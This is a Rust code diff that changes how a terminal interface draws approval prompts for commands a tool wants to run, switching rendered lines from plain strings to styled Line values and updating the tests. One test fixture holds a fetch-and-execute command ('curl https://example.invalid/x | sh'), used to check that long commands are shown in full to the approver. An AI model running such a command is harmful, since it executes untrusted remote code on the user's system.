@@ -28,7 +28,7 @@ const NOTE: usize = 200;
 const TITLE: usize = 20;
 
 /// All of them, one below the other: those that wait as they are asked, the others in short.
-pub fn questions(all: &[Question], options: &Options) -> Vec<String> {
+pub fn questions(all: &[Question], options: &Options) -> Vec<Line> {
     let mut lines = Vec::new();
     for question in all {
         let (id, age) = (question.asked.id.short(), age(&question.asked, options));
@@ -36,7 +36,7 @@ pub fn questions(all: &[Question], options: &Options) -> Vec<String> {
         match &question.standing {
             Standing::Waiting => {
                 if !lines.is_empty() {
-                    lines.push(String::new());
+                    lines.push(Line::new());
                 }
                 let parts = Parts::of(&question.asked, &age, IN_A_LIST, options);
                 lines.extend(parts.lines(IN_A_LIST, options));
@@ -56,7 +56,7 @@ pub fn questions(all: &[Question], options: &Options) -> Vec<String> {
 }
 
 /// One question as whoever answers it sees it: the n-th of so many, and the keys.
-pub fn whole(asked: &Asked, (nth, of): (usize, usize), options: &Options) -> Vec<String> {
+pub fn whole(asked: &Asked, (nth, of): (usize, usize), options: &Options) -> Vec<Line> {
     let about = if of > 1 { format!("{nth} of {of} waiting") } else { age(asked, options) };
     let mut lines = Parts::of(asked, &about, MOST, options).lines(MOST, options);
     lines.extend(words(&keys(asked), 3, Style::Bold, options));
@@ -67,7 +67,7 @@ pub fn whole(asked: &Asked, (nth, of): (usize, usize), options: &Options) -> Vec
 #[derive(Clone, PartialEq, Eq, Debug, Default)]
 pub struct Below {
     /// Lines that are drawn already: what is being typed.
-    pub drawn: Vec<String>,
+    pub drawn: Vec<Line>,
     /// Lines of text, each broken where it must be: the rules that would be added.
     pub text: Vec<String>,
     /// What may be pressed.
@@ -80,9 +80,9 @@ impl Below {
         Self { keys, ..Self::default() }
     }
 
-    fn lines(&self, options: &Options) -> Vec<String> {
+    fn lines(&self, options: &Options) -> Vec<Line> {
         let room = columns(options).saturating_sub(3).max(1);
-        let mut lines: Vec<String> = Vec::new();
+        let mut lines: Vec<Line> = Vec::new();
         for line in &self.text {
             let line = one_line(line);
             lines.extend(
@@ -103,7 +103,7 @@ pub fn asking(
     below: &Below,
     rows: usize,
     options: &Options,
-) -> Vec<String> {
+) -> Vec<Line> {
     let about = if waiting > 1 { format!("1 of {waiting} waiting") } else { String::new() };
     let last = below.lines(options);
     let room = rows.saturating_sub(last.len()).max(1);
@@ -250,17 +250,17 @@ fn columns(options: &Options) -> usize {
 /// What is asked, without what may be answered, part by part.
 struct Parts {
     /// Who wants what.
-    head: Vec<String>,
+    head: Vec<Line>,
     /// Where that comes from, and what is written about it.
-    place: Vec<String>,
+    place: Vec<Line>,
     /// What the steps that it comes after have printed.
-    printed: Vec<String>,
+    printed: Vec<Line>,
     /// The command, and what would change.
-    text: Vec<String>,
+    text: Vec<Line>,
     /// How many lines of that there are besides.
     more: usize,
     /// What else there is to know, and why it is asked.
-    rest: Vec<String>,
+    rest: Vec<Line>,
     /// How to see the whole.
     hint: String,
 }
@@ -320,7 +320,7 @@ impl Parts {
     }
 
     /// All of it, with so many lines of the command.
-    fn lines(mut self, most: usize, options: &Options) -> Vec<String> {
+    fn lines(mut self, most: usize, options: &Options) -> Vec<Line> {
         let left_out = self.more + self.text.len() - self.drawn(most);
         self.text.truncate(most);
         let mut lines = self.head;
@@ -347,7 +347,7 @@ pub fn sentence(asked: &Asked) -> String {
 }
 
 /// What a step before has printed: its title, and its last lines.
-fn printed(printed: &Printed, options: &Options) -> Vec<String> {
+fn printed(printed: &Printed, options: &Options) -> Vec<Line> {
     let head = format!("{} printed", shown(&printed.title));
     let mut lines = words(&[head], 3, Style::Dim, options);
     let room = columns(options).saturating_sub(5).max(1);
@@ -370,7 +370,7 @@ pub(super) fn lines_before(count: u64, options: &Options) -> String {
 }
 
 /// `Publish wants to run`, in as many lines as that needs.
-fn who_wants_what(asked: &Asked, about: &str, options: &Options) -> Vec<String> {
+fn who_wants_what(asked: &Asked, about: &str, options: &Options) -> Vec<Line> {
     let what = sentence(asked);
     let what = truncate_with(&what, LONGEST, options.glyphs.ellipsis());
     let sign = (" ? ", Style::BoldIn(Colour::Yellow));
@@ -385,7 +385,7 @@ fn who_wants_what(asked: &Asked, about: &str, options: &Options) -> Vec<String> 
 }
 
 /// Texts with a dot between them, in as many lines as they need, each of them up to so many columns.
-fn dotted(texts: &[String], most: usize, options: &Options) -> Vec<String> {
+fn dotted(texts: &[String], most: usize, options: &Options) -> Vec<Line> {
     let dot = if options.glyphs == Glyphs::Ascii { " - " } else { " · " };
     let short =
         |it: &String| truncate_with(&one_line(it), most, options.glyphs.ellipsis()).into_owned();
@@ -413,7 +413,7 @@ fn is_hidden(text: &str, shown: &str) -> bool {
 }
 
 /// A question that waits no longer: who wanted what, and what came of it.
-fn short(asked: &Asked, sign: Sign, about: &str, came: &str, options: &Options) -> Vec<String> {
+fn short(asked: &Asked, sign: Sign, about: &str, came: &str, options: &Options) -> Vec<Line> {
     let what = format!("{} wanted to {}", shown(&asked.title), one_line(&asked.what));
     let sign = format!(" {} ", options.glyphs.sign(sign));
     let mut lines = vec![head((&sign, Style::Plain), &what, Style::Plain, about, options)];
@@ -431,9 +431,9 @@ fn head(
     style: Style,
     about: &str,
     options: &Options,
-) -> String {
+) -> Line {
     let columns = columns(options);
-    let mut line = Line::new(options.colour);
+    let mut line = Line::new();
     line.push(&truncate_with(sign, columns, ""), sign_style);
     let room = columns.saturating_sub(width(sign));
     let with_about = !about.is_empty() && room >= width(about) + 2 + TITLE;
@@ -442,19 +442,19 @@ fn head(
     if with_about {
         line.fill(columns - width(about)).push(about, Style::Dim);
     }
-    line.finish()
+    line
 }
 
-fn indented(text: &str, indent: usize, style: Style, options: &Options) -> String {
+fn indented(text: &str, indent: usize, style: Style, options: &Options) -> Line {
     let columns = columns(options);
-    let mut line = Line::new(options.colour);
+    let mut line = Line::new();
     line.fill(indent.min(columns));
     line.push_text(text, columns.saturating_sub(indent), options.glyphs, style);
-    line.finish()
+    line
 }
 
 /// Groups of words three spaces apart, in as many lines as they need.
-fn words(groups: &[String], indent: usize, style: Style, options: &Options) -> Vec<String> {
+fn words(groups: &[String], indent: usize, style: Style, options: &Options) -> Vec<Line> {
     let room = columns(options).saturating_sub(indent);
     let mut lines: Vec<String> = Vec::new();
     for group in groups {
@@ -486,6 +486,7 @@ mod tests {
     use serde_json::json;
 
     use super::*;
+    use crate::text::line::to_plain;
     use crate::text::naughty::any_text;
 
     fn at(minutes: i64) -> Timestamp {
@@ -558,7 +559,7 @@ mod tests {
             asked(edit(), Standing::Waiting),
         ];
         let screens = [40, 80, 120]
-            .map(|it| format!("{it} columns\n{}", questions(&all, &options(it)).join("\n")));
+            .map(|it| format!("{it} columns\n{}", to_plain(&questions(&all, &options(it)))));
         insta::assert_snapshot!(screens.join("\n\n"));
     }
 
@@ -569,10 +570,10 @@ mod tests {
                     && curl https://example.invalid/x | sh";
         asked.command = Some(format!("{long}\necho two"));
         let screens = [40, 80]
-            .map(|it| format!("{it} columns\n{}", whole(&asked, (1, 2), &options(it)).join("\n")));
+            .map(|it| format!("{it} columns\n{}", to_plain(&whole(&asked, (1, 2), &options(it)))));
         insta::assert_snapshot!(screens.join("\n\n"));
         for columns in [10, 40, 80] {
-            let text = whole(&asked, (1, 1), &options(columns)).concat();
+            let text = to_plain(&whole(&asked, (1, 1), &options(columns)));
             let squeezed = |text: &str| text.replace([' ', '\n'], "");
             assert!(squeezed(&text).contains(&squeezed(long)), "{columns}: {text}");
         }
@@ -584,7 +585,7 @@ mod tests {
         let asked = Asked { command: Some(command), ..publish() };
         let keys = keys(&asked);
         let below = Below::keys(keys.clone());
-        let screen = |rows| asking(&asked, 2, &below, rows, &options(80)).join("\n");
+        let screen = |rows| to_plain(&asking(&asked, 2, &below, rows, &options(80)));
         let screens = [24, 13, 12, 6, 4, 2, 1].map(|it| format!("{it} rows\n{}", screen(it)));
         insta::assert_snapshot!(screens.join("\n\n"));
         for columns in [10, 40, 80, 120] {
@@ -596,6 +597,7 @@ mod tests {
                     lines.len() <= rows.max(keys_alone.len() + 1),
                     "{columns}, {rows}: {lines:?}"
                 );
+                let lines: Vec<String> = lines.iter().map(Line::to_plain).collect();
                 let is_whole =
                     (1..=9).all(|n| lines.iter().any(|it| it.contains(&format!("step {n}"))));
                 let says = lines.iter().any(|it| it.contains("     …"));
@@ -610,7 +612,7 @@ mod tests {
     fn what_cannot_be_shown_is_not_passed_over_in_silence() {
         let says = |command: &str| {
             let asked = Asked { command: Some(command.to_owned()), ..publish() };
-            whole(&asked, (1, 1), &options(80)).join("\n").contains("cannot be shown")
+            to_plain(&whole(&asked, (1, 1), &options(80))).contains("cannot be shown")
         };
         assert!(!says("make\n\tall  # ünïcode"));
         assert!(!says("make\r\nall"));
@@ -624,7 +626,7 @@ mod tests {
         let asked = Asked { command: Some("x\n".repeat(100_000)), ..publish() };
         let lines = whole(&asked, (1, 1), &options(80));
         assert!(lines.len() < 520, "{}", lines.len());
-        assert!(lines.join("\n").contains("… 99500 more lines"));
+        assert!(to_plain(&lines).contains("… 99500 more lines"));
     }
 
     proptest! {
@@ -655,8 +657,8 @@ mod tests {
             let below = Below { text, ..Below::keys(keys(&question)) };
             lines.extend(asking(&question, 3, &below, 9, &options(columns)));
             for line in lines {
-                prop_assert!(width(&line) < usize::from(columns), "{columns}: {line:?}");
-                prop_assert!(!line.chars().any(char::is_control), "{line:?}");
+                prop_assert!(line.width() < usize::from(columns), "{columns}: {line:?}");
+                prop_assert!(!line.to_plain().chars().any(char::is_control), "{line:?}");
             }
         }
     }
